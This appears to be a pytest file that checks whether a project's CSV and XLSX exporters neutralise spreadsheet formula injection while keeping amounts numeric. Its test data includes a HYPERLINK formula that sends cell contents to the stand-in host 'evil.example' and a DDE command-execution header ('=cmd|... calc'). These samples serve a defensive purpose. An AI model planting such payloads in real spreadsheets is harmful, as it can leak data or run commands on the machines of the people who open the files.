"""CSV and XLSX exports: text a spreadsheet would run as a formula is neutralised; numbers stay numbers."""
import csv
import datetime as dt
import io
from decimal import Decimal

import pandas as pd
import pytest
from openpyxl import load_workbook

from ui import exports

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-x", "@SUM(A1:A9)", "\tx", "\rx", "宝岛酥坊", "a-b"]


def hostile_frame() -> pd.DataFrame:
    return pd.DataFrame({
        "company": HOSTILE,
        "net_rmb": [Decimal("-125.00"), Decimal("1.50"), Decimal("0.00"), Decimal("-0.01"), Decimal("2.00"),
                    Decimal("3.00"), Decimal("4.00"), Decimal("5.00")],
        "qty": [-1, 2, 3, 4, 5, 6, 7, 8],
        "share": [-0.5, 0.1, 0.2, 0.3, 0.4, 0.5, 0.6, 0.7],
    })


def reread(data: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(data)).active.iter_rows(values_only=True))


@pytest.mark.parametrize("value, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-x", "'-x"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=b", "a=b"), ("'=1", "'=1"), ("", ""), ("宝岛酥坊", "宝岛酥坊"), (" =1", " =1"),
    (Decimal("-125.00"), Decimal("-125.00")), (-1, -1), (-0.5, -0.5), (None, None), (dt.date(2020, 1, 5), dt.date(2020, 1, 5)),
])
def test_neutralised(value, expected):
    assert exports.neutralised(value) == expected


def test_csv_puts_an_apostrophe_before_formula_text_and_keeps_negative_amounts():
    text = exports.to_csv(hostile_frame()).decode("utf-8-sig")
    assert text == (
        "company,net_rmb,qty,share\r\n"
        '"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",-125.00,-1,-0.5\r\n'
        "'+1,1.50,2,0.1\r\n"
        "'-x,0.00,3,0.2\r\n"
        "'@SUM(A1:A9),-0.01,4,0.3\r\n"
        "'\tx,2.00,5,0.4\r\n"
        "\"'\rx\",3.00,6,0.5\r\n"
        "宝岛酥坊,4.00,7,0.6\r\n"
        "a-b,5.00,8,0.7\r\n"
    )


def test_csv_quotes_line_breaks_so_no_cell_starts_a_row_unneutralised():
    frame = pd.DataFrame({"detail": ["a\r=1+1", "b\n@x"], "net_rmb": [Decimal("-1.00"), Decimal("2.00")]})
    rows = list(csv.reader(io.StringIO(exports.to_csv(frame).decode("utf-8-sig"), newline="")))
    assert rows == [["detail", "net_rmb"], ["a\r=1+1", "-1.00"], ["b\n@x", "2.00"]]


def test_xlsx_puts_an_apostrophe_before_formula_text_and_keeps_numbers_as_numbers():
    data = exports.to_xlsx(hostile_frame(), "Detail")
    assert reread(data) == [
        ("Detail", None, None, None),
        ("company", "net_rmb", "qty", "share"),
        ('\'=HYPERLINK("http://evil.example/?"&A1,"open")', -125, -1, -0.5),
        ("'+1", 1.5, 2, 0.1),
        ("'-x", 0, 3, 0.2),
        ("'@SUM(A1:A9)", -0.01, 4, 0.3),
        ("'\tx", 2, 5, 0.4),
        ("'\nx", 3, 6, 0.5),   # XML reads a stored CR back as LF
        ("宝岛酥坊", 4, 7, 0.6),
        ("a-b", 5, 8, 0.7),
    ]
    sheet = load_workbook(io.BytesIO(data)).active
    assert [c.data_type for c in sheet[3]] == ["s", "n", "n", "n"]
    assert sheet["B3"].number_format == "#,##0.00"
    assert not [c.coordinate for row in sheet.iter_rows() for c in row if c.data_type == "f"]


def test_headers_are_neutralised_too():
    frame = pd.DataFrame({"=cmd|' /C calc'!A0": ["x"], "net_rmb": [Decimal("-1.00")]})
    assert exports.to_csv(frame).decode("utf-8-sig") == "'=cmd|' /C calc'!A0,net_rmb\r\nx,-1.00\r\n"
    assert reread(exports.to_xlsx(frame, "T"))[1] == ("'=cmd|' /C calc'!A0", "net_rmb")


def test_mixed_object_column_keeps_decimals_and_neutralises_text():
    frame = pd.DataFrame({"value": pd.Series([Decimal("-125.00"), "-125.00", None], dtype=object)})
    assert exports.to_csv(frame).decode("utf-8-sig") == "value\r\n-125.00\r\n'-125.00\r\n\"\"\r\n"
    assert reread(exports.to_xlsx(frame, "T"))[2:] == [(-125,), ("'-125.00",), (None,)]


def test_control_characters_from_a_hostile_file_do_not_break_the_workbook():
    frame = pd.DataFrame({"detail": ["bad\x01value\x1f"]})
    assert reread(exports.to_xlsx(frame, "Rejects"))[2] == ("bad\ufffdvalue\ufffd",)


def test_the_shown_frame_is_left_as_it_was():
    frame = hostile_frame()
    exports.to_csv(frame)
    exports.to_xlsx(frame, "Detail")
    assert list(frame["company"]) == HOSTILE
    assert list(frame.columns) == ["company", "net_rmb", "qty", "share"]
